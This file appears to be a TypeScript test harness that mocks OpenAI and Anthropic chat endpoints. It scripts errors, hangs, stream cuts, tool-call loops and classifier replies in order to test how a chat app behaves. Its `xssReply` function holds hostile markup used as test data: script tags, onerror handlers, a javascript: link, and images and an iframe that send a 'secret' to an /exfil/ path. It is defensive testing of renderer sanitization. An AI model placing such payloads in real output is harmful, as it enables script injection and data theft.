import { EventEmitter, once } from "node:events";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** One chat request as a mock provider received it; `closedEarly` and `done` settle as the exchange ends. */
export interface RecordedRequest {
  id: number;
  method: string;
  /** The path without the query string, e.g. `/v1/chat/completions`. */
  path: string;
  /** Header names are lower-case; repeated headers are joined with ", ". */
  headers: Record<string, string>;
  /** The parsed JSON body, or null when it was empty or not JSON. */
  body: unknown;
  /** Text of the last `user` message, where the directives are looked for. */
  lastUserText: string;
  /** True if the client went away before the mock finished answering (never set by `[[mock:cut]]`). */
  closedEarly: boolean;
  /** Resolves once the response finished or the connection closed. */
  done: Promise<void>;
}

/** A running mock provider. */
export interface MockUpstream {
  /** Base URL for the SDK: `<origin>/v1` for OpenAI, the bare origin for Anthropic (its SDK adds /v1). */
  url: string;
  origin: string;
  /** Chat/messages requests only, in arrival order. */
  requests: RecordedRequest[];
  /** Full URLs of every request to `/exfil/*`, which a safe renderer must never cause. */
  exfilHits: string[];
  /** The next chat request not yet handed out by this method, waiting for it if need be. */
  nextRequest(timeoutMs?: number): Promise<RecordedRequest>;
  /** Clears `requests` and `exfilHits` in place, so references held by tests stay live. */
  reset(): void;
  /** Stops listening and destroys open sockets, hung requests included. */
  close(): Promise<void>;
}

/** Options for `startMockOpenAI` and `startMockAnthropic`. */
export interface MockOptions {
  /** Port on 127.0.0.1; 0 (the default) picks a free one. */
  port?: number;
  /** Pause before each streamed chunk; `[[mock:slow]]` always uses 50 ms. */
  chunkDelayMs?: number;
  /**
   * Credentials the mock refuses with 401, as a revoked key is refused; read on every request, so a
   * test can revoke a key mid-run by adding it to the set.
   */
  rejectKeys?: Set<string>;
}

/** Present in the message of every scripted error body, so tests can prove it never reaches the browser. */
export const RAW_PROVIDER_BODY_MARKER = "RAW-PROVIDER-BODY";
/** Last text of the `[[mock:xss]]` reply, so tests know rendering finished. */
export const XSS_REPLY_END_MARKER = "XSS-REPLY-END";

/** What the last user message asked the mock to do. */
export type Directive =
  | {
      kind:
        | "default"
        | "markdown"
        | "xss"
        | "slow"
        | "hang"
        | "cut"
        | "echo"
        | "repeat"
        | "secret"
        | "overrun"
        | "pause"
        | "judge-attack"
        | "judge-benign"
        | "judge-junk";
    }
  | { kind: "status"; status: number }
  | { kind: "unknown"; text: string };

const SIMPLE_DIRECTIVES = [
  "markdown",
  "xss",
  "slow",
  "hang",
  "cut",
  "echo",
  "repeat",
  "secret",
  "overrun",
  "pause",
  "judge-attack",
  "judge-benign",
  "judge-junk",
] as const;

/** A tool call the mock model makes, as both providers frame one. */
export type MockToolCall = { id: string; name: string; argsJson: string };

/**
 * `[[mock:tool NAME {json}]]` asks the mock to call tool NAME with that JSON as its arguments (several
 * directives, several calls in one turn), when the request offers tools. After the results come back
 * it answers in text, unless the directive was `[[mock:tool-loop NAME {json}]]`, which calls again
 * after every result: a model that never stops.
 */
export function parseToolDirectives(text: string): { calls: { name: string; argsJson: string }[]; loop: boolean } {
  const calls: { name: string; argsJson: string }[] = [];
  let loop = false;
  for (const match of text.matchAll(/\[\[mock:(tool|tool-loop) ([a-z][a-z0-9_]*) (\{.*?\})\]\]/gs)) {
    calls.push({ name: match[2] ?? "", argsJson: match[3] ?? "{}" });
    if (match[1] === "tool-loop") loop = true;
  }
  return { calls, loop };
}

/** Whether the conversation ends with tool results (OpenAI: a `tool` message; Anthropic: `tool_result` blocks). */
export function endsWithToolResult(body: unknown): boolean {
  const messages = isRecord(body) && Array.isArray(body.messages) ? body.messages : [];
  const last: unknown = messages.at(-1);
  if (!isRecord(last)) return false;
  if (last.role === "tool") return true;
  return last.role === "user" && Array.isArray(last.content) && last.content.some((part) => isRecord(part) && part.type === "tool_result");
}

/** The text of the last user message that is not only tool results: where the person's directives are. */
function lastInstruction(body: unknown): string {
  const messages = isRecord(body) && Array.isArray(body.messages) ? body.messages : [];
  for (const message of [...messages].reverse()) {
    if (!isRecord(message) || message.role !== "user") continue;
    const text = contentText(message.content);
    if (text) return text;
  }
  return "";
}

/** How long `[[mock:pause]]` waits after its second chunk. */
export const PAUSE_MS = 3_000;

/** How many words `[[mock:overrun]]` streams, whatever max_tokens says: a provider that ignores its limit. */
export const OVERRUN_WORDS = 5_000;

/** Finds the first `[[mock:...]]` directive anywhere in the text; the app wraps user text in its own prompt. */
export function parseDirective(text: string): Directive {
  const match = /\[\[mock:([a-z]+(?:-[a-z]+)?)(?:\s+(\d{3}))?\]\]/.exec(text);
  if (!match) return { kind: "default" };
  const [whole, name, code] = match;
  const simple = SIMPLE_DIRECTIVES.find((d) => d === name);
  if (simple && code === undefined) return { kind: simple };
  const status = Number(code);
  if (name === "status" && status >= 400 && status <= 599) return { kind: "status", status };
  return { kind: "unknown", text: whole };
}

/** Narrows parsed JSON to an object. */
export function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}

/** The text of message content in either SDK's shape: a string, or an array of `{type:"text",text}` parts. */
export function contentText(content: unknown): string {
  if (typeof content === "string") return content;
  if (!Array.isArray(content)) return "";
  const texts = content.map((part) => (isRecord(part) && part.type === "text" && typeof part.text === "string" ? part.text : ""));
  return texts.filter(Boolean).join("\n");
}

/** The `messages` array of a request body, reduced to roles and text (both providers share this shape). */
export function readMessages(body: unknown): Array<{ role: string; text: string }> {
  const messages = isRecord(body) && Array.isArray(body.messages) ? body.messages : [];
  return messages.map((m) => ({
    role: isRecord(m) && typeof m.role === "string" ? m.role : "",
    text: isRecord(m) ? contentText(m.content) : "",
  }));
}

/**
 * The credential a request carried: `x-api-key`, else the token of `authorization: Bearer`. Note that
 * @anthropic-ai/sdk 1.x sends an `apiKey` as `authorization: Bearer`, not `x-api-key`.
 */
export function credentialOf(request: RecordedRequest): string | null {
  return request.headers["x-api-key"] ?? /^Bearer (.+)$/.exec(request.headers.authorization ?? "")?.[1] ?? null;
}

/** A rough token count (characters / 4), enough for usage fields to look plausible. */
export function estimateTokens(text: string): number {
  return Math.max(1, Math.ceil(text.length / 4));
}

/** The error message every scripted error carries. */
export function errorMessage(status: number): string {
  return `Mock upstream error ${status} (${RAW_PROVIDER_BODY_MARKER}): this text must never reach the app's client.`;
}

/** How a provider frames one reply; built per request so ids and usage belong to it. */
export interface ReplyFraming {
  /** Extra headers on every response, e.g. a request id. */
  headers: Record<string, string>;
  /** The system prompt as the provider received it, for `[[mock:echo]]`. */
  system: string | null;
  errorBody(status: number): unknown;
  /** Non-stream response body holding the whole reply. */
  complete(text: string): unknown;
  /** SSE frames before the first delta. */
  start(): string;
  delta(text: string): string;
  /** SSE frames after the last delta; gets the whole text for usage counts. */
  finish(text: string): string;
  /** SSE frames that end the turn with these tool calls instead (after `start` and any text deltas). */
  toolCalls(calls: MockToolCall[], text: string): string;
}

/** What a provider module tells the shared server. */
export interface ProviderSpec {
  name: "openai" | "anthropic";
  /** Appended to the origin to make `url`. */
  basePath: string;
  chatPath: string;
  framing(request: { id: number; body: Record<string, unknown> }): ReplyFraming;
  /** Answers any other route (model list, unknown path). */
  other(request: { method: string; path: string }): { status: number; body: unknown };
}

// Odd, repeating chunk sizes so tags, links and markers straddle chunk boundaries.
function splitAwkwardly(text: string): string[] {
  const sizes = [7, 3, 13, 5, 11, 2, 17];
  const chunks: string[] = [];
  for (let at = 0, i = 0; at < text.length; i++) {
    const size = sizes[i % sizes.length] ?? 8;
    chunks.push(text.slice(at, at + size));
    at += size;
  }
  return chunks;
}

const MARKDOWN_REPLY = [
  "# Mock markdown reply",
  "",
  "Some **bold** text and a list:",
  "",
  "- first item",
  "- second item with `inline code`",
  "",
  "```ts",
  "export function add(a: number, b: number): number {",
  "  return a + b;",
  "}",
  "```",
  "",
  "| Column | Value |",
  "| ------ | ----- |",
  "| alpha  | 1     |",
  "| beta   | 2     |",
  "",
  "See [the documentation](https://example.com/docs) for more.",
].join("\n");

function xssReply(origin: string): string {
  return [
    "Hostile content follows.",
    "",
    `<img src=x onerror="alert(1)">`,
    "",
    "<script>alert(2)</script>",
    "",
    "[click me](javascript:alert(3))",
    "",
    `![exfil](${origin}/exfil/img.png?d=secret)`,
    "",
    `<img src="${origin}/exfil/raw.png">`,
    "",
    `<iframe src="${origin}/exfil/frame"></iframe>`,
    "",
    XSS_REPLY_END_MARKER,
  ].join("\n");
}

/** A fake key the "model" writes for `[[mock:secret]]`: made now, of OpenAI's shape, never a real one. */
export const leakedKeyOf = (id: number) => ["sk", "proj", `mockLeak${id}x`.padEnd(48, "Q7z")].join("-");

function replyChunks(args: { directive: Directive; provider: string; origin: string; echo: unknown; lastUserText: string; id: number }): string[] {
  const { directive } = args;
  switch (directive.kind) {
    case "markdown":
      return splitAwkwardly(MARKDOWN_REPLY);
    case "xss":
      return splitAwkwardly(xssReply(args.origin));
    case "slow":
      return Array.from({ length: 400 }, (_, i) => `chunk ${i + 1} `);
    case "cut":
      return ["Partial ", "reply before ", "the cut "];
    case "echo":
      return splitAwkwardly(JSON.stringify(args.echo));
    // The user's text as the provider received it (fence included), so tests see placeholders come back.
    case "repeat":
      return splitAwkwardly(`You wrote: ${args.lastUserText}`);
    case "secret":
      return splitAwkwardly(`Here is a key: ${leakedKeyOf(args.id)} — keep it safe.`);
    // Two chunks, a pause of PAUSE_MS (time for a test to break something mid-reply), then the rest.
    case "pause":
      return ["Before ", "the pause. ", "After ", "the pause."];
    // One word a chunk (a token each), far past any max_tokens the app sends.
    case "overrun":
      return Array.from({ length: OVERRUN_WORDS }, (_, i) => `w${i} `);
    // A second-opinion classifier's answers: a verdict in the JSON it must write, or prose it must not.
    case "judge-attack":
      return ['{"attack": true, ', '"confidence": 0.93}'];
    case "judge-benign":
      return ['{"attack": false, ', '"confidence": 0.88}'];
    case "judge-junk":
      return ["I think this message is ", "probably fine, but who knows."];
    case "unknown":
      return [`Unknown mock directive ${directive.text}.`];
    default:
      return ["Hello ", "from the ", `mock ${args.provider} `, "model."];
  }
}

const PIXEL = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=", "base64");

function sendJson(res: ServerResponse, reply: { status: number; body: unknown; headers?: Record<string, string> }): void {
  if (res.destroyed) return;
  const text = JSON.stringify(reply.body);
  res.writeHead(reply.status, { ...reply.headers, "content-type": "application/json", "content-length": Buffer.byteLength(text) });
  res.end(text);
}

function readBody(req: IncomingMessage): Promise<unknown> {
  return new Promise((resolve) => {
    const parts: Buffer[] = [];
    req.on("data", (part: Buffer) => parts.push(part));
    req.on("error", () => resolve(null));
    req.on("end", () => {
      try {
        resolve(JSON.parse(Buffer.concat(parts).toString("utf8")));
      } catch {
        resolve(null);
      }
    });
  });
}

/** Starts a mock provider on 127.0.0.1 from a provider's framing; used by `startMockOpenAI`/`startMockAnthropic`. */
export async function startMockUpstream({ spec, options = {} }: { spec: ProviderSpec; options?: MockOptions }): Promise<MockUpstream> {
  const requests: RecordedRequest[] = [];
  const exfilHits: string[] = [];
  const arrivals = new EventEmitter();
  let cursor = 0;
  let nextId = 1;
  let origin = "";

  async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const path = new URL(req.url ?? "/", origin).pathname;
    if (path.startsWith("/exfil/")) {
      exfilHits.push(`${origin}${req.url ?? ""}`);
      res.writeHead(200, { "content-type": "image/png", "cache-control": "no-store", "content-length": PIXEL.length });
      res.end(PIXEL);
      return;
    }
    // A write racing a disconnect must not crash the test process.
    res.on("error", () => undefined);
    // Listen before reading the body, so a client that leaves at once is still noticed.
    const gone = new AbortController();
    let cutByMock = false;
    let record: RecordedRequest | undefined;
    const done = new Promise<void>((resolve) =>
      res.once("close", () => {
        gone.abort();
        if (record && !res.writableFinished && !cutByMock) record.closedEarly = true;
        resolve();
      }),
    );
    const body = await readBody(req);
    const method = req.method ?? "GET";
    if (method !== "POST" || path !== spec.chatPath) return sendJson(res, spec.other({ method, path }));

    const headers = Object.fromEntries(
      Object.entries(req.headers).flatMap(([name, value]) => (value === undefined ? [] : [[name, Array.isArray(value) ? value.join(", ") : value]])),
    );
    const messages = readMessages(body);
    const lastUserText = messages.filter((m) => m.role === "user").at(-1)?.text ?? "";
    const id = nextId++;
    record = { id, method, path, headers, body, lastUserText, closedEarly: gone.signal.aborted, done };
    // Recorded before answering, so a test sees the request even if the answer never comes.
    requests.push(record);
    arrivals.emit("request");
    if (gone.signal.aborted) return;

    const framing = spec.framing({ id, body: isRecord(body) ? body : {} });
    const offered = isRecord(body) && Array.isArray(body.tools) && body.tools.length > 0;
    const tools = parseToolDirectives(lastInstruction(body));
    const afterResults = endsWithToolResult(body);
    if (offered && tools.calls.length > 0 && (!afterResults || tools.loop) && isRecord(body) && body.stream === true) {
      const calls = tools.calls.map((call, i) => ({ ...call, id: `${spec.name === "openai" ? "call" : "toolu"}_mock_${id}_${i}` }));
      res.writeHead(200, { ...framing.headers, "content-type": "text/event-stream", "cache-control": "no-cache" });
      res.write(framing.start());
      const preface = "Let me use a tool. ";
      res.write(framing.delta(preface));
      res.end(framing.toolCalls(calls, preface));
      return;
    }
    const directive = afterResults ? ({ kind: "default" } as const) : parseDirective(lastUserText);
    const credential = credentialOf(record);
    if (credential !== null && options.rejectKeys?.has(credential))
      return sendJson(res, { status: 401, body: framing.errorBody(401), headers: framing.headers });
    if (directive.kind === "status") {
      const retry: Record<string, string> = directive.status === 429 ? { "retry-after": "1" } : {};
      const reply = { status: directive.status, body: framing.errorBody(directive.status) };
      return sendJson(res, { ...reply, headers: { ...framing.headers, ...retry } });
    }
    if (directive.kind === "hang") return;
    const cut = (): void => {
      cutByMock = true;
      res.socket?.destroy();
    };
    const echo = { messages: messages.length, roles: messages.map((m) => m.role), system: framing.system };
    const chunks = replyChunks({ directive, provider: spec.name, origin, echo, lastUserText, id });
    if (!isRecord(body) || body.stream !== true) {
      if (directive.kind === "cut") return cut();
      return sendJson(res, { status: 200, body: framing.complete(chunks.join("")), headers: framing.headers });
    }

    const delayMs = directive.kind === "slow" ? 50 : (options.chunkDelayMs ?? 5);
    // Ends early (false) when the client leaves, so no timer outlives the connection.
    const pause = (ms = delayMs): Promise<boolean> => sleep(ms, true, { signal: gone.signal }).catch(() => false);
    res.writeHead(200, { ...framing.headers, "content-type": "text/event-stream", "cache-control": "no-cache" });
    res.write(framing.start());
    for (const [i, chunk] of chunks.entries()) {
      if (!(await pause(directive.kind === "pause" && i === 2 ? PAUSE_MS : delayMs))) return;
      res.write(framing.delta(chunk));
    }
    // One more pause so the last chunks reach the client before a cut.
    if (!(await pause())) return;
    if (directive.kind === "cut") return cut();
    res.end(framing.finish(chunks.join("")));
  }

  const server = createServer((req, res) => void handle(req, res));
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(options.port ?? 0, "127.0.0.1", () => resolve());
  });
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

  return {
    url: `${origin}${spec.basePath}`,
    origin,
    requests,
    exfilHits,
    async nextRequest(timeoutMs = 5_000) {
      // A referenced timer (unlike AbortSignal.timeout) keeps a bare script alive until it fires.
      const expiry = new AbortController();
      const timer = setTimeout(() => expiry.abort(), timeoutMs);
      try {
        // Re-checked after every arrival, so concurrent callers each get a different request, in order.
        for (;;) {
          const next = requests[cursor];
          if (next) {
            cursor++;
            return next;
          }
          await once(arrivals, "request", { signal: expiry.signal }).catch(() => {
            throw new Error(`mock ${spec.name}: no chat request arrived within ${timeoutMs} ms`);
          });
        }
      } finally {
        clearTimeout(timer);
      }
    },
    reset() {
      requests.length = 0;
      exfilHits.length = 0;
      cursor = 0;
    },
    async close() {
      const stopped = new Promise<void>((resolve) => server.close(() => resolve()));
      server.closeAllConnections();
      await stopped;
    },
  };
}
